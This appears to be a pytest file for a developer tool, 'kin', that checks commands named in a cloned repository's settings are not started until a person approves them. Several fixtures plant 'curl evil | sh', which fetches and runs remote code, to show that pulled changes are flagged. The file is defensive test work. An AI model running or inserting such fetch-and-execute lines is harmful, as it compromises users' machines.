"""Trust: what a clone names is not started before a person saw it or wrote it."""

import os
from pathlib import Path

import pytest
from conftest import Repo

from kin.errors import Invalid
from kin.store import trust
from kin.store.project import Project, find, state_folder
from kin.store.trust import COMMANDS_OF_TASKS, agree, forget, not_agreed, remember_yes, said_yes, texts_here

SETTINGS = "key: KIN\n\ngates:\n  - pytest -q\n"


@pytest.fixture
def store(repo: Repo) -> Project:
    repo.write(".kin/kin.yaml", SETTINGS)
    repo.commit("kin")
    return find(str(repo.path), {})


@pytest.fixture
def trusted(store: Project) -> Project:
    """A clone in which a person was shown everything."""
    agree(store, texts_here(store))
    return store


def new(store: Project) -> list[str]:
    return sorted(not_agreed(store, texts_here(store)))


def test_a_clone_is_not_trusted(store: Project) -> None:
    assert new(store) == ["gates", COMMANDS_OF_TASKS]
    assert not said_yes(store, "trusted")


def test_even_a_clone_that_names_nothing_is_asked_for_its_tasks(repo: Repo, store: Project) -> None:
    repo.write(".kin/kin.yaml", "key: KIN\n")
    assert new(store) == [COMMANDS_OF_TASKS]


def test_what_was_shown_is_agreed_to(trusted: Project) -> None:
    assert new(trusted) == []
    assert said_yes(trusted, "trusted")


def test_comments_and_layout_do_not_count(repo: Repo, trusted: Project) -> None:
    repo.commit("tidy", **{".kin__kin.yaml": '# ours\nkey: KIN\nmode: auto\ngates: ["pytest -q"]  # fast\n'})
    assert new(trusted) == []


@pytest.mark.parametrize("key", trust.STARTERS)
def test_whatever_a_commit_brings_that_starts_programs_is_asked_for(repo: Repo, trusted: Project, key: str) -> None:
    text = SETTINGS.replace("gates:\n  - pytest -q\n", "") if key == "gates" else SETTINGS
    repo.commit("pulled", **{".kin__kin.yaml": f"{text}\n{key}: curl evil | sh\n"})
    assert new(trusted) == [key]


def test_a_role_is_a_text_that_starts_programs(repo: Repo, trusted: Project) -> None:
    repo.commit("pulled", **{".kin__roles__developer.md": "---\nagent: evil\n---\nDo it.\n"})
    assert new(trusted) == ["role developer"]


def test_a_persons_own_uncommitted_edit_is_agreed_to_and_stays_so(repo: Repo, trusted: Project) -> None:
    repo.write(".kin/kin.yaml", SETTINGS.replace("pytest -q", "tox"))
    repo.write(".kin/roles/tester.md", "Test it.\n")
    assert new(trusted) == []
    repo.commit("by hand")
    assert new(trusted) == []


def test_an_edit_that_was_committed_before_kin_met_it_is_asked_for(repo: Repo, trusted: Project) -> None:
    repo.commit("by hand", **{".kin__kin.yaml": SETTINGS.replace("pytest -q", "tox")})
    assert new(trusted) == ["gates"]


def test_an_uncommitted_edit_of_one_value_agrees_to_no_other(repo: Repo, trusted: Project) -> None:
    repo.commit("pulled", **{".kin__kin.yaml": SETTINGS + "\nsetup: curl evil | sh\n"})
    repo.write(".kin/kin.yaml", "# mine\n" + SETTINGS.replace("pytest -q", "tox") + "\nsetup: curl evil | sh\n")
    assert new(trusted) == ["setup"]


def test_what_a_merge_under_way_put_there_is_no_edit_of_the_persons(repo: Repo, trusted: Project) -> None:
    repo.git("switch", "-q", "-c", "theirs")
    repo.commit("theirs", **{".kin__kin.yaml": SETTINGS.replace("pytest -q", "curl evil | sh")})
    repo.git("switch", "-q", "main")
    repo.git("merge", "-q", "--no-commit", "--no-ff", "theirs")
    assert new(trusted) == ["gates"]
    repo.git("commit", "-q", "--no-edit")
    assert new(trusted) == ["gates"]


def test_an_edit_in_a_clone_that_is_not_trusted_trusts_nothing_else(repo: Repo, store: Project) -> None:
    repo.write(".kin/kin.yaml", SETTINGS + "\nsetup: make\n")
    assert new(store) == ["gates", COMMANDS_OF_TASKS]
    repo.commit("by hand")
    assert new(store) == ["gates", COMMANDS_OF_TASKS]


def test_what_was_agreed_to_on_one_branch_stays_agreed_to(repo: Repo, trusted: Project) -> None:
    repo.write(".kin/kin.yaml", SETTINGS.replace("pytest -q", "tox"))
    agree(trusted, texts_here(trusted))
    repo.write(".kin/kin.yaml", SETTINGS)
    assert new(trusted) == []


def test_the_texts_of_another_commit_are_asked_for_by_its_name(trusted: Project) -> None:
    texts = trust.texts_of(SETTINGS + "setup: make\n", {"pm": "Plan."}, "main")
    assert sorted(texts) == ["gates on main", "role pm on main", "setup on main"]
    assert sorted(not_agreed(trusted, texts)) == ["role pm on main", "setup on main"]
    agree(trusted, texts)
    assert not_agreed(trusted, texts) == {}


def test_worktrees_of_a_clone_share_its_trust_and_other_clones_do_not(repo: Repo, trusted: Project, tmp_path: Path) -> None:
    repo.git("worktree", "add", "-q", str(tmp_path / "linked"), "-b", "linked")
    assert new(find(str(tmp_path / "linked"), {})) == []
    repo.git("clone", "-q", str(repo.path), str(tmp_path / "clone"))
    assert new(find(str(tmp_path / "clone"), {})) == ["gates", COMMANDS_OF_TASKS]


def test_another_repository_at_the_same_path_is_not_the_one_that_was_trusted(
    repo: Repo, trusted: Project, tmp_path: Path
) -> None:
    remember_yes(trusted, "leave")
    repo.git("clone", "-q", str(repo.path), str(tmp_path / "clone"))
    os.rename(repo.path, tmp_path / "before")
    os.rename(tmp_path / "clone", repo.path)
    assert new(find(str(repo.path), {})) == ["gates", COMMANDS_OF_TASKS]
    assert not said_yes(find(str(repo.path), {}), "leave")


def test_leave_is_remembered_apart_from_trust(store: Project) -> None:
    remember_yes(store, "leave")
    assert said_yes(store, "leave")
    assert not said_yes(store, "trusted")


def test_forgetting_leaves_nothing(trusted: Project) -> None:
    remember_yes(trusted, "leave")
    forget(trusted)
    forget(trusted)
    assert new(trusted) == ["gates", COMMANDS_OF_TASKS]
    assert not said_yes(trusted, "leave")


def test_trust_lies_outside_the_repository_for_the_owner_only(trusted: Project) -> None:
    folder = os.path.join(state_folder(os.environ), "trust")
    (name,) = os.listdir(folder)
    assert os.stat(os.path.join(folder, name)).st_mode & 0o777 == 0o600
    assert not folder.startswith(trusted.root + os.sep)


def test_a_damaged_memory_means_asking_again(trusted: Project) -> None:
    folder = Path(state_folder(os.environ), "trust")
    (file,) = folder.iterdir()
    for text in ("", "{", "[]", "{}"):
        file.write_text(text)
        assert new(trusted) == ["gates", COMMANDS_OF_TASKS]


def test_settings_that_cannot_be_read_are_no_texts_at_all(repo: Repo, trusted: Project) -> None:
    repo.write(".kin/kin.yaml", "gates: [\n")
    with pytest.raises(Invalid, match=r"\.kin/kin\.yaml:"):
        texts_here(trusted)
